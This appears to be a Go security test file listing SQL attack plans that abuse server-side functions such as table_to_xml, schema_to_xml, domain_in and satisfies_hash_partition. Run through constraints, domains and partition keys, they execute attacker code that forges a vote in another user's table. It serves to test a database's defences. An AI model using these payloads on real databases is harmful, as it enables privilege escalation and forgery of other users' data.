package attack_test

// forges adds a row to bob's votes in his name, where no trigger says whose it is.
var forges = `CREATE SCHEMA zzz;` + arm("zzz.arm", `INSERT INTO bobs.votes VALUES ('bob', 'no');`)

// plansFourth run code by functions of the server's own that look harmless.
var plansFourth = map[string]plan{
	"fourth table to xml": {before: votes, probe: forged,
		hers: forges + `CREATE VIEW zzz.v AS SELECT zzz.arm_v(1) AS n; CREATE TABLE zzz.zz (n int CHECK (table_to_xml('zzz.v', true, false, '') IS NOT NULL)); INSERT INTO zzz.zz VALUES (1)`},
	"fourth schema to xml": {before: votes, probe: forged,
		hers: forges + `CREATE SCHEMA zzv; CREATE VIEW zzv.v AS SELECT zzz.arm_v(1) AS n; CREATE TABLE zzz.zz (n int CHECK (schema_to_xml('zzv', true, false, '') IS NOT NULL)); INSERT INTO zzz.zz VALUES (1)`},
	"fourth schema to xml of a domain": {before: votes, probe: forged,
		hers: forges + `CREATE SCHEMA zzv; CREATE VIEW zzv.v AS SELECT zzz.arm_v(1) AS n; CREATE DOMAIN zzz.d AS int CHECK (schema_to_xml('zzv', true, false, '') IS NOT NULL); CREATE TABLE zzz.zz (n zzz.d); INSERT INTO zzz.zz VALUES (1)`},
	"fourth input of a domain": {before: votes, probe: forged,
		hers: forges + `CREATE DOMAIN zzz.d AS int CHECK (zzz.arm_v(VALUE) > 0); CREATE TABLE zzz.zz (n int, CHECK (domain_in('1', ('zzz.' || 'd')::regtype, -1) IS NOT NULL)); INSERT INTO zzz.zz VALUES (1)`},
	"fourth key of partitions": {before: votes, probe: forged,
		hers: forges + `CREATE TABLE zzz.par (n int) PARTITION BY HASH ((n + zzz.arm(1))); CREATE TABLE zzz.zz (r regclass, n int, CHECK (satisfies_hash_partition(r, 2, 0, n) IS NOT NULL)); INSERT INTO zzz.zz VALUES ('zzz.par', 1)`},
	"fourth key of partitions in a column": {before: votes, probe: forged,
		hers: forges + `CREATE TABLE zzz.par (n int) PARTITION BY HASH ((n + zzz.arm(1))); CREATE TABLE zzz.zz (r regclass, n int, b boolean GENERATED ALWAYS AS (satisfies_hash_partition(r, 2, 0, n)) STORED); INSERT INTO zzz.zz VALUES ('zzz.par', 1)`},
}
